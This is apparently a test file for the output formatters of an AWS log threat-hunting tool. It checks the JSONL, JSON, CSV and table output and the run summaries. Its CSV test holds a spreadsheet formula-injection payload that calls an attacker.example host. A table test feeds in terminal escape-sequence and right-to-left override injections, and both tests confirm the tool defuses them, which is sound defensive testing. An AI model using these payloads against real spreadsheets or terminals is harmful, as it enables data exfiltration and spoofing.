import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../findings/finding.js';
import type { RunSummary } from '../hunt/summary.js';
import { CSV_COLUMNS, csvField } from './csv.js';
import { renderSummary, writeOutput, type OutputFormat } from './index.js';
import { renderTable } from './table.js';
import { clean, formatDuration, truncate } from './text.js';

// Hand-built findings and run summaries, shaped as src/findings/finding.ts and
// src/hunt/summary.ts define them.
function finding(over: Partial<Finding> = {}): Finding {
  return {
    id: '5f0c6e1d9a7b4c3e',
    rule: { id: 'aws.evasion.cloudtrail-stopped', title: 'CloudTrail logging stopped' },
    matrix: { category: 'evasion', row: 'EVA-1' },
    priority: 'high',
    mitre: ['T1562.008'],
    time: { first: '2026-01-02T03:04:05Z', last: '2026-01-02T03:04:05Z' },
    account: '111122223333',
    region: 'us-east-1',
    actor: {
      arn: 'arn:aws:iam::111122223333:user/alice',
      type: 'IAMUser',
      accessKeyId: 'AKIAIOSFODNN7EXAMPLE',
      sourceIp: '198.51.100.7',
      userAgent: 'aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0 exe/x86_64.ubuntu.22',
    },
    summary: 'alice stopped logging of trail org-trail in us-east-1',
    evidence: {
      count: 1,
      eventIds: ['3e7a4b52-0d1c-4f7e-9a85-2b6c1d0e9f31'],
      origins: ['AWSLogs/111122223333/CloudTrail/us-east-1/2026/01/02/file.json.gz#12'],
    },
    suppressed: null,
    ...over,
  };
}

function runSummary(over: Partial<RunSummary> = {}): RunSummary {
  return {
    files: { read: 55, skipped: 2 },
    records: 2900,
    events: { api: 2890, flow: 10 },
    filteredOut: 7,
    flowStatus: { nodata: 4, skipdata: 1 },
    skipped: { total: 3, byReason: { 'invalid-json': 2, 'gzip-truncated': 1 } },
    warnings: { total: 1, byReason: { 'bad-event-time': 1 } },
    problems: [
      {
        code: 'invalid-json',
        severity: 'skip',
        file: 'logs/a.jsonl',
        line: 12,
        reason: 'expected a JSON object, found "{\\"eventVersion"',
      },
      {
        code: 'gzip-truncated',
        severity: 'skip',
        file: 'logs/b.json.gz',
        reason: 'unexpected end of gzip data',
      },
      {
        code: 'bad-event-time',
        severity: 'warning',
        file: 'logs/c.json',
        index: 3,
        reason: 'eventTime "yesterday" is not an ISO 8601 time',
      },
    ],
    notices: [],
    problemsOmitted: 0,
    findings: {
      total: 4,
      suppressed: 1,
      byPriority: { critical: 1, high: 2, medium: 1, low: 0, info: 0 },
    },
    state: { store: 'memory', tracked: 12, evicted: 0, late: 0 },
    elapsedMs: 1234,
    eventsPerSecond: 2350,
    workers: 8,
    ...over,
  };
}

/** A writable that keeps what it was given; `highWaterMark` 1 forces the writer to wait for drain. */
function collector(): { stream: Writable; text: () => string } {
  const chunks: string[] = [];
  const stream = new Writable({
    highWaterMark: 1,
    write(chunk: Buffer, _enc, done) {
      chunks.push(chunk.toString('utf8'));
      setImmediate(done);
    },
  });
  return { stream, text: () => chunks.join('') };
}

// eslint-disable-next-line no-control-regex
const ANSI = /\u001b\[/;

async function output(
  format: OutputFormat,
  findings: Finding[],
  summary = runSummary(),
  extra: { color?: boolean; width?: number } = {},
): Promise<string> {
  const { stream, text } = collector();
  const opts = { format, out: stream, color: extra.color ?? false };
  await writeOutput(
    findings,
    summary,
    extra.width === undefined ? opts : { ...opts, width: extra.width },
  );
  return text();
}

/** A strict RFC 4180 reader, to check what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i++;
      } else {
        field += ch;
        i++;
      }
    } else if (ch === '"' && field === '') {
      quoted = true;
      i++;
    } else if (ch === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (ch === '"' || ch === '\r' || ch === '\n') {
      throw new Error(`bare ${JSON.stringify(ch)} at offset ${i}`);
    } else {
      field += ch;
      i++;
    }
  }
  if (field !== '' || row.length > 0) throw new Error('last line does not end in CRLF');
  return rows;
}

const three = (): Finding[] => [
  finding({
    id: 'r1',
    rule: { id: 'aws.recon.bulk-enumeration', title: 'Bulk enumeration' },
    matrix: { category: 'recon', row: 'REC-1' },
    priority: 'medium',
    summary: 'alice called 312 List/Describe APIs in 10 minutes',
    evidence: {
      count: 312,
      eventIds: ['e1', 'e2'],
      origins: ['a.json#1', 'a.json#2'],
      truncated: true,
    },
  }),
  finding({ id: 'e1' }),
  finding({
    id: 'i1',
    rule: { id: 'aws.iam.access-key-created', title: 'Access key created for another user' },
    matrix: { category: 'iam', row: 'IAM-2' },
    priority: 'critical',
    actor: {
      arn: 'arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_AdministratorAccess_0a1b2c3d4e5f6a7b/bob@example.com',
      type: 'AssumedRole',
    },
    summary: 'bob@example.com created access key AKIAI44QH8DHBEXAMPLE for user backup-svc',
  }),
];

describe('jsonl', () => {
  it('writes one parseable finding per line and nothing else', async () => {
    const findings = three();
    const text = await output('jsonl', findings);
    expect(text.endsWith('\n')).toBe(true);
    const lines = text.slice(0, -1).split('\n');
    expect(lines).toHaveLength(3);
    expect(lines.map((l) => JSON.parse(l) as unknown)).toEqual(findings);
    expect(text).not.toMatch(/Run summary|files/);
  });

  it('writes nothing at all when there are no findings', async () => {
    expect(await output('jsonl', [])).toBe('');
  });

  it('waits for a slow stream instead of buffering without bound', async () => {
    const findings = Array.from({ length: 200 }, (_, i) => finding({ id: `f${i}` }));
    const lines = (await output('jsonl', findings)).trimEnd().split('\n');
    expect(lines).toHaveLength(200);
    expect((JSON.parse(lines[199] as string) as Finding).id).toBe('f199');
  });
});

describe('json', () => {
  it('writes one object with the summary and the findings', async () => {
    const findings = three();
    const summary = runSummary();
    const doc = JSON.parse(await output('json', findings, summary)) as Record<string, unknown>;
    expect(Object.keys(doc)).toEqual(['summary', 'findings']);
    expect(doc['summary']).toEqual(summary);
    expect(doc['findings']).toEqual(findings);
  });

  it('keeps the places of problems in the summary', async () => {
    const doc = JSON.parse(await output('json', [])) as { summary: RunSummary; findings: [] };
    expect(doc.findings).toEqual([]);
    expect(doc.summary.problems[0]).toMatchObject({
      file: 'logs/a.jsonl',
      line: 12,
      code: 'invalid-json',
    });
  });
});

describe('csv', () => {
  it('has the header row and CRLF line ends', async () => {
    const text = await output('csv', three());
    const lines = text.split('\r\n');
    expect(lines).toHaveLength(5);
    expect(lines[4]).toBe('');
    expect(lines[0]).toBe(
      'id,rule_id,rule_title,category,row,priority,mitre,time_first,time_last,account,region,' +
        'actor_arn,actor_type,actor_access_key_id,actor_source_ip,actor_user_agent,summary,count,' +
        'event_ids,origins,suppressed',
    );
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('writes only the header when there are no findings', async () => {
    expect(await output('csv', [])).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });

  it('flattens nested values into columns', async () => {
    const rows = parseCsv(await output('csv', three()));
    const recon = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1]?.[i]]));
    expect(recon).toMatchObject({
      id: 'r1',
      rule_id: 'aws.recon.bulk-enumeration',
      category: 'recon',
      row: 'REC-1',
      priority: 'medium',
      mitre: 'T1562.008',
      account: '111122223333',
      actor_arn: 'arn:aws:iam::111122223333:user/alice',
      actor_access_key_id: 'AKIAIOSFODNN7EXAMPLE',
      count: '312',
      event_ids: 'e1;e2',
      origins: 'a.json#1;a.json#2',
      suppressed: '',
    });
    const rowNull = finding({
      matrix: { category: 'evasion', row: null },
      account: null,
      region: null,
    });
    const [, line] = parseCsv(await output('csv', [rowNull]));
    expect(line?.[CSV_COLUMNS.indexOf('row')]).toBe('');
    expect(line?.[CSV_COLUMNS.indexOf('account')]).toBe('');
  });

  it('quotes and doubles quotes, and puts a multi-line value on one line', async () => {
    const f = finding({
      summary: 'alice said "hi", then\r\nleft\nand\rreturned',
      mitre: ['T1562.008', 'T1070'],
      suppressed: { by: 'suppressions[0]', reason: 'pentest, week 2', ticket: 'SEC-42' },
    });
    const text = await output('csv', [f]);
    expect(text).toContain('"alice said ""hi"", then left and returned"');
    const [, row] = parseCsv(text);
    expect(row).toHaveLength(CSV_COLUMNS.length);
    expect(row?.[CSV_COLUMNS.indexOf('summary')]).toBe('alice said "hi", then left and returned');
    expect(row?.[CSV_COLUMNS.indexOf('mitre')]).toBe('T1562.008;T1070');
    expect(row?.[CSV_COLUMNS.indexOf('suppressed')]).toBe(
      'suppressions[0]: pentest, week 2 [SEC-42]',
    );
  });

  it('defuses values a spreadsheet would run as a formula', async () => {
    const f = finding({
      summary: '=HYPERLINK("http://attacker.example/?"&A1,"click")',
      actor: { userAgent: '@SUM(1+1)', arn: '+cmd', type: '-2+3' },
    });
    const [, row] = parseCsv(await output('csv', [f]));
    const col = (name: (typeof CSV_COLUMNS)[number]): string | undefined =>
      row?.[CSV_COLUMNS.indexOf(name)];
    expect(col('summary')).toBe(`'=HYPERLINK("http://attacker.example/?"&A1,"click")`);
    expect(col('actor_user_agent')).toBe("'@SUM(1+1)");
    expect(col('actor_arn')).toBe("'+cmd");
    expect(col('actor_type')).toBe("'-2+3");
    expect(col('count')).toBe('1');
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('a=b')).toBe('a=b');
  });
});

describe('table', () => {
  it('groups findings under category headings in matrix order', async () => {
    const text = await output('table', three());
    const iam = text.indexOf('IAM  1 finding');
    const evasion = text.indexOf('EVASION  1 finding');
    const recon = text.indexOf('RECON  1 finding');
    expect(iam).toBeGreaterThanOrEqual(0);
    expect(evasion).toBeGreaterThan(iam);
    expect(recon).toBeGreaterThan(evasion);
    expect(text.indexOf('access-key-created')).toBeGreaterThan(iam);
    expect(text.indexOf('access-key-created')).toBeLessThan(evasion);
    expect(text.indexOf('cloudtrail-stopped')).toBeGreaterThan(evasion);
    expect(text.indexOf('bulk-enumeration')).toBeGreaterThan(recon);
  });

  it('lists the most severe first and suppressed findings last, marked', async () => {
    const findings = [
      finding({ id: 'a', priority: 'low', summary: 'low one' }),
      finding({ id: 'b', priority: 'critical', summary: 'hidden one', suppressed: { by: 'x' } }),
      finding({ id: 'c', priority: 'high', summary: 'high one' }),
    ];
    const text = await output('table', findings, runSummary(), { width: 160 });
    expect(text.indexOf('high one')).toBeLessThan(text.indexOf('low one'));
    expect(text.indexOf('low one')).toBeLessThan(text.indexOf('[suppressed] hidden one'));
  });

  it('ends with the run summary figures', async () => {
    const text = await output('table', three());
    expect(text.indexOf('Run summary')).toBeGreaterThan(text.indexOf('RECON'));
    for (const figure of [
      /files\s+55 read, 2 skipped/,
      /records\s+2,900/,
      /events\s+2,900 \(api 2,890, flow 10\), 7 filtered out/,
      /flow status\s+NODATA 4, SKIPDATA 1/,
      /skipped\s+3 \(invalid-json 2, gzip-truncated 1\)/,
      /warnings\s+1 \(bad-event-time 1\)/,
      /logs\/a\.jsonl:12\s+invalid-json\s+expected a JSON object/,
      /logs\/c\.json#3\s+bad-event-time/,
      /findings\s+4 \(critical 1, high 2, medium 1\), 1 suppressed/,
      /time\s+1\.23 s, 2,350 events\/s, 8 workers/,
    ]) {
      expect(text).toMatch(figure);
    }
  });

  it('has no ANSI codes without colour, and colours by priority with it', async () => {
    expect(await output('table', three(), runSummary(), { color: false })).not.toMatch(ANSI);
    const coloured = renderTable(three(), runSummary(), { color: true, width: 120 });
    expect(coloured).toMatch(ANSI);
    expect(coloured).toContain('\u001b[31mhigh');
  });

  it('fits every line into 80, 120 and 160 columns', () => {
    const long = finding({
      rule: { id: 'aws.evasion.guardduty-detector-deleted-in-a-region-nobody-uses', title: 'x' },
      summary: `${'very long summary '.repeat(20)}end`,
      region: 'ap-southeast-2',
    });
    for (const width of [80, 120, 160]) {
      const text = renderTable([...three(), long], runSummary(), { color: false, width });
      const table = text.slice(0, text.indexOf('Run summary'));
      for (const line of table.split('\n'))
        expect(Array.from(line).length).toBeLessThanOrEqual(width);
      expect(table).toContain('…');
    }
    const wide = renderTable(three(), runSummary(), { color: false, width: 160 });
    expect(wide).toContain('ACTOR');
    expect(wide).toContain('bob@example.com');
    expect(wide).toContain('111122223333 us-east-1');
    const narrow = renderTable(three(), runSummary(), { color: false, width: 80 });
    expect(narrow).toContain('SUMMARY');
    expect(narrow).toContain('PRIORITY');
  });

  it('prints terminal control characters from logs as escapes', async () => {
    const evil = finding({
      summary: 'alice \u001b[2J\u001b]0;pwned\u0007 did \u202eexe.txt',
      actor: { arn: 'arn:aws:iam::111122223333:user/\u001b[31mroot' },
    });
    const text = await output('table', [evil], runSummary(), { width: 200 });
    // eslint-disable-next-line no-control-regex
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u202e]/);
    expect(text).toContain('alice \\u001b[2J\\u001b]0;pwned\\u0007 did \\u202eexe.txt');
  });

  it('says so when there are no findings', async () => {
    const text = await output(
      'table',
      [],
      runSummary({
        findings: {
          total: 0,
          suppressed: 0,
          byPriority: { critical: 0, high: 0, medium: 0, low: 0, info: 0 },
        },
      }),
    );
    expect(text.startsWith('No findings.')).toBe(true);
    expect(text).toMatch(/findings\s+0, 0 suppressed/);
  });
});

describe('renderSummary', () => {
  it('lists the first problems and counts the rest', () => {
    const problems = Array.from({ length: 14 }, (_, i) => ({
      code: 'invalid-json' as const,
      severity: 'skip' as const,
      file: `logs/f${i}.jsonl`,
      line: i + 1,
      reason: 'not JSON',
    }));
    const text = renderSummary(runSummary({ problems, problemsOmitted: 6 }), false);
    expect(text).toContain('logs/f9.jsonl:10');
    expect(text).not.toContain('logs/f10.jsonl');
    expect(text).toContain('… and 10 more problems');
    expect(text).not.toMatch(ANSI);
    expect(renderSummary(runSummary(), true)).toMatch(ANSI);
  });
});

describe('text helpers', () => {
  it('cuts keeping the start or the end', () => {
    expect(truncate('abcdef', 4)).toBe('abc…');
    expect(truncate('abcdef', 4, 'start')).toBe('…def');
    expect(truncate('abc', 4)).toBe('abc');
    expect(clean('a\tb\nc\u0000')).toBe('a b c\\u0000');
  });

  it('formats durations', () => {
    expect(formatDuration(850)).toBe('850 ms');
    expect(formatDuration(1234)).toBe('1.23 s');
    expect(formatDuration(245_000)).toBe('4 min 05 s');
    expect(formatDuration(3_720_000)).toBe('1 h 02 min');
  });
});
